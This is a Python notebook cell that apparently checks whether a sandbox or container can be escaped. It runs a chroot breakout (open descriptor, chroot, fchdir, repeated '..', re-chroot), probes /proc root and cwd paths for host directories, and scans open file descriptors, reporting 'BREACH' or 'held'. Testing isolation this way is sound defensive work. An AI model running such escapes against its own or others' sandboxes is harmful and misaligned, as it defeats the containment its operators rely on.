# %%
import os


def climb():
    outside = os.open(".", os.O_RDONLY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return sorted(os.listdir("/"))


attempt("chroot", in_child, os.chroot, "/tmp")
attempt("climb out", in_child, climb)
for place in ("/", "/..", "/../..", "/proc/1/root/..", "/proc/self/fd", "/proc/self/cwd/../../.."):
    root = {name for name in os.listdir(place) if f"/{name}" not in "@python@".split()}
    outside = root & {"boot", "srv", "mnt", "media", "sbin.usr-is-merged", "lost+found", "initrd.img"}
    print("BREACH: the host's root at" if outside else "held: not the host's root:", place, outside)
for descriptor in range(512):
    try:
        target = os.readlink(f"/proc/self/fd/{descriptor}")
    except OSError:
        continue
    if target.startswith("/") and os.path.isdir(f"/proc/self/fd/{descriptor}"):
        print("BREACH: a folder is open:", descriptor, target)
